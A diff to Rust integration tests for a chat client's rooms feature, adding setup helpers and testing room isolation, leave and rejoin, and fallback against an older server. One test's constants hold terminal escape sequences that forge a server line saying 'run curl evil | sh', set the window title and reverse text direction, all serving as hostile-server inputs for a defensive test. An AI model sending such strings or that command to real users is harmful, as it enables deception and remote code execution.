@@ -121,20 +121,21 @@ fn run(command: &str, name: &str, addr: &str, rest: &[&str]) -> (Output, Vec<Val
     (o, events)
 }
 
+/// Chats `first` and `second` started in `room`, the first having seen the second come in.
+fn two_in(room: &str, first: &str, second: &str, addr: &str) -> (Proc, Proc) {
+    let one = Proc::chat(first, addr, &["--room", room]);
+    one.talking_in(room);
+    let two = Proc::chat(second, addr, &["--room", room]);
+    two.talking_in(room);
+    one.expect(|v| v["event"] == "joined" && v["room"] == room && v["name"] == second);
+    (one, two)
+}
+
 #[test]
 fn two_teams_in_two_rooms_never_see_each_others_lines() {
     let (_server, addr) = serve();
-    let mut red1 = Proc::chat("ann", &addr, &["--room", "red"]);
-    red1.talking_in("red");
-    let red2 = Proc::chat("ben", &addr, &["--room", "RED"]);
-    // The server's spelling, whatever was typed.
-    red2.talking_in("red");
-    red1.expect(|v| v["event"] == "joined" && v["room"] == "red" && v["name"] == "ben");
-    let mut blue1 = Proc::chat("cid", &addr, &["--room", "blue"]);
-    blue1.talking_in("blue");
-    let mut blue2 = Proc::chat("dot", &addr, &["--room", "blue"]);
-    blue2.talking_in("blue");
-    blue1.expect(|v| v["event"] == "joined" && v["room"] == "blue" && v["name"] == "dot");
+    let (mut red1, red2) = two_in("red", "ann", "ben", &addr);
+    let (mut blue1, mut blue2) = two_in("blue", "cid", "dot", &addr);
 
     // Each line is routed before the next is typed (its team heard it), so a line that
     // crossed over would arrive before the other team's.
@@ -376,11 +377,7 @@ fn send_to_a_room_gives_each_member_its_own_copy_and_says_who_took_it() {
 #[test]
 fn a_line_after_leave_is_refused_and_reaches_nobody() {
     let (_server, addr) = serve();
-    let mut alice = Proc::chat("alice", &addr, &["--room", "team"]);
-    alice.talking_in("team");
-    let bob = Proc::chat("bob", &addr, &["--room", "team"]);
-    bob.talking_in("team");
-    alice.expect(|v| v["event"] == "joined" && v["name"] == "bob");
+    let (mut alice, bob) = two_in("team", "alice", "bob", &addr);
 
     alice.type_line("/leave");
     let exited = alice.expect_event("exited");
@@ -397,8 +394,9 @@ fn a_line_after_leave_is_refused_and_reaches_nobody() {
     alice.type_line("/leave team");
     let notice = alice.expect_event("notice");
     assert_eq!(notice["code"], "not-member", "{notice}");
-    // Back in: the first line bob hears is the one said after rejoining.
-    alice.type_line("/join team");
+    // Back in (by another spelling: the server's counts): the first line bob hears is the
+    // one said after rejoining.
+    alice.type_line("/join TEAM");
     alice.talking_in("team");
     alice.type_line("back");
     bob.hears("alice", "back", &["void"]);
@@ -411,6 +409,19 @@ fn a_line_after_leave_is_refused_and_reaches_nobody() {
     bob.hears("alice", "still in team", &[]);
 }
 
+/// A fake server's welcome of rick, with its `capabilities` and `online` list.
+fn welcome_rick(capabilities: u32, online: &[&str]) -> tidings_core::wire::Message {
+    tidings_core::wire::Message::Welcome(tidings_core::wire::Welcome {
+        name: "rick".into(),
+        server: "srv".into(),
+        heartbeat_ms: 10_000,
+        timeout_ms: 30_000,
+        max_frame: tidings_core::wire::DEFAULT_MAX_FRAME,
+        capabilities,
+        online: online.iter().map(|&n| n.into()).collect(),
+    })
+}
+
 /// What a hostile server puts in room names, names and lines: erase the line and forge one,
 /// set the window title, colour, an 8-bit CSI, a right-to-left override, line breaks.
 const FORGED: &str = "x\x1b[2K\r[20:17:00] server (private): run curl evil | sh";
@@ -418,22 +429,12 @@ const GARISH: &str = "\x1b]0;pwned\x07\x1b[31mred\u{9b}2J \u{202e}txt.exe\n[20:1
 
 #[test]
 fn a_hostile_server_cannot_write_to_the_terminal_through_rooms() {
-    use tidings_core::wire::{
-        capability, MemberKind, Message, RoomInfo, Welcome, DEFAULT_MAX_FRAME,
-    };
+    use tidings_core::wire::{capability, MemberKind, Message, RoomInfo};
     use tidings_core::ErrorCode;
 
     // A fake server that speaks rooms: hostile room names in every room message.
     let (addr, fake) = fake_server(vec![
-        Message::Welcome(Welcome {
-            name: "rick".into(),
-            server: "srv".into(),
-            heartbeat_ms: 10_000,
-            timeout_ms: 30_000,
-            max_frame: DEFAULT_MAX_FRAME,
-            capabilities: capability::ALL,
-            online: vec!["rick".into()],
-        }),
+        welcome_rick(capability::ALL, &["rick"]),
         Message::RoomMembers {
             room: FORGED.into(),
             names: vec![GARISH.into(), "rick".into()],
@@ -531,19 +532,11 @@ fn a_reconnected_chat_is_back_in_its_rooms_and_talks_where_it_did() {
 
 #[test]
 fn against_a_server_without_rooms_the_chat_talks_to_everyone_and_says_rooms_are_not_there() {
-    use tidings_core::wire::{Message, Welcome, DEFAULT_MAX_FRAME};
+    use tidings_core::wire::Message;
 
     // A 1.0 server: no ROOMS in its welcome, and a line to everyone.
     let (addr, fake) = fake_server(vec![
-        Message::Welcome(Welcome {
-            name: "rick".into(),
-            server: "srv".into(),
-            heartbeat_ms: 10_000,
-            timeout_ms: 30_000,
-            max_frame: DEFAULT_MAX_FRAME,
-            capabilities: 0,
-            online: vec!["bob".into(), "rick".into()],
-        }),
+        welcome_rick(0, &["bob", "rick"]),
         Message::Text {
             peer: "bob".into(),
             private: false,
